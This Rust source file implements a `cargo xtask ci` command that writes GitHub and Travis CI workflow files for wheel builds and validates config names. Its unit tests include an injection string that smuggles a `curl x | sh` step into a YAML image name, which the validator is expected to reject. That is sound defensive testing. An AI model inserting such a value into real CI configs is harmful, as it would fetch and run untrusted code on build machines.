//! `cargo xtask ci travis|github`: the CI files written from the same config as
//! `wheels --all` (`library::workflows`): GitHub's `wheels.yml` and `release.yml` (a seeded
//! compile cache per image, Trusted Publishing with attestations), or the legacy
//! `.travis.yml`. `--check` tells whether the committed files have drifted from the config.

use std::path::Path;
use std::process::ExitCode;

use anyhow::{bail, Context, Result};

use crate::flags::{self, CiSystem as System};
use crate::library::config::Config;
use crate::library::image;
use crate::library::workflows;

/// The files of `system` and their text, paths relative to the repository root.
pub fn files(config: &Config, system: System) -> Result<Vec<(&'static str, String)>> {
    Ok(match system {
        System::Travis => vec![(workflows::TRAVIS_FILE, workflows::travis(config)?)],
        System::Github => vec![
            (workflows::WHEELS_FILE, workflows::github_wheels(config)?),
            (workflows::RELEASE_FILE, workflows::github_release(config)?),
        ],
    })
}

/// Writes the files under `repo`, or with `--check` compares them (exit 1 when one differs).
pub fn run(config: &Config, repo: &Path, flags: &flags::Ci) -> Result<ExitCode> {
    let system = flags.system;
    check_names(config)?;
    let count = workflows::jobs(config)?.len();
    if count == 0 {
        bail!("the config gives no (image, interpreter) job: fill [docker] images and [[docker.pythons]]");
    }
    let files = files(config, system)?;
    if flags.check {
        let mut drifted = false;
        for (rel, text) in &files {
            let path = repo.join(rel);
            if std::fs::read_to_string(&path).unwrap_or_default() != *text {
                eprintln!(
                    "{} differs from what the config generates: run cargo xtask ci {}",
                    path.display(),
                    name(system)
                );
                drifted = true;
            } else {
                eprintln!("{} matches the config", path.display());
            }
        }
        return Ok(if drifted { ExitCode::FAILURE } else { ExitCode::SUCCESS });
    }
    for (rel, text) in &files {
        let path = repo.join(rel);
        if let Some(dir) = path.parent() {
            std::fs::create_dir_all(dir)?;
        }
        std::fs::write(&path, text).with_context(|| format!("cannot write {}", path.display()))?;
        eprintln!("wrote {} ({count} image x interpreter targets)", path.display());
    }
    Ok(ExitCode::SUCCESS)
}

/// The config's image names and interpreter tags go into YAML and onto command lines of the
/// jobs: validated as `wheels` validates them.
fn check_names(config: &Config) -> Result<()> {
    for image in &config.docker.images {
        image::validate(image).context("in the config's [docker] images")?;
    }
    for entry in &config.docker.pythons {
        for tag in &entry.tags {
            crate::library::names::check_interpreter_tag("in the config's [[docker.pythons]] tags,", tag)?;
        }
    }
    for runner in [&config.ci.runner, &config.ci.arm_runner] {
        let ok = !runner.is_empty() && runner.chars().all(|c| c.is_ascii_alphanumeric() || "-_.".contains(c));
        if !ok {
            bail!("{} in the config's [ci] is not a runner label", crate::library::text::quoted(runner));
        }
    }
    Ok(())
}

fn name(system: System) -> &'static str {
    match system {
        System::Travis => "travis",
        System::Github => "github",
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::library::config::ImagePythons;

    fn config(images: &[&str], tags: &[&str], skip: &[&str]) -> Config {
        let mut c = Config::default();
        c.docker.images = images.iter().map(|s| s.to_string()).collect();
        c.docker.pythons = vec![ImagePythons {
            images: "quay.io/pypa/manylinux*".into(),
            tags: tags.iter().map(|s| s.to_string()).collect(),
        }];
        c.interpreters.skip = skip.iter().map(|s| s.to_string()).collect();
        c
    }

    #[test]
    fn one_job_per_image_and_interpreter_minus_skips() {
        let mut c = config(
            &["quay.io/pypa/manylinux2014_x86_64", "quay.io/pypa/manylinux1_i686"],
            &["cp27-cp27mu", "cp311-cp311"],
            &["cp27-*"],
        );
        assert_eq!(workflows::jobs(&c).unwrap().len(), 2);
        let t = workflows::travis(&c).unwrap();
        assert!(t.contains("    - DOCKER_IMAGE=quay.io/pypa/manylinux1_i686 PY_VERSION=cp311-cp311\n"), "{t}");
        assert!(
            t.contains("services:\n  - docker") && t.contains("target/xtask-wheels/cache") && t.contains("tags: true")
        );
        let g = workflows::github_wheels(&c).unwrap();
        assert!(g.contains("      PY_VERSION: \"cp311-cp311\"\n") && g.contains("seed-manylinux1_i686:"), "{g}");
        check_names(&c).unwrap();
        c.docker.images.push("evil\n    - run: curl x | sh".into());
        assert!(check_names(&c).is_err());
        c.docker.images.pop();
        c.docker.pythons[0].tags.push("cp311\nscript: x".into());
        assert!(check_names(&c).is_err());
    }

    /// No job names an interpreter its image lacks: each image's own list, and an image the
    /// config says nothing of is an error, not a guess.
    #[test]
    fn jobs_follow_each_images_list() {
        let mut c = Config::default();
        c.docker.images.push("quay.io/pypa/manylinux2014_x86_64".into());
        c.docker.pythons.insert(
            0,
            ImagePythons {
                images: "quay.io/pypa/manylinux2014_*".into(),
                tags: vec!["cp313-cp313".into(), "cp314-cp314t".into()],
            },
        );
        let jobs = workflows::jobs(&c).unwrap();
        for (image, tag) in &jobs {
            assert!(c.docker.pythons_of(image).unwrap().contains(tag), "{image} {tag}");
            assert!(!tag.starts_with("cp39") && !tag.starts_with("pp"), "skipped: {tag}");
        }
        let of = |img: &str| jobs.iter().filter(|(i, _)| i.ends_with(img)).map(|(_, t)| t.as_str()).collect::<Vec<_>>();
        assert_eq!(of("manylinux2014_x86_64"), ["cp313-cp313", "cp314-cp314t"]);
        assert_eq!(
            of("manylinux_2_28_aarch64"),
            [
                "cp310-cp310",
                "cp311-cp311",
                "cp312-cp312",
                "cp313-cp313",
                "cp314-cp314",
                "cp314-cp314t",
                "cp315-cp315",
                "cp315-cp315t"
            ]
        );
        c.docker.images.push("ghcr.io/me/builder".into());
        let e = workflows::jobs(&c).unwrap_err().to_string();
        assert!(e.contains("ghcr.io/me/builder") && e.contains("[[docker.pythons]]"), "{e}");
    }
}
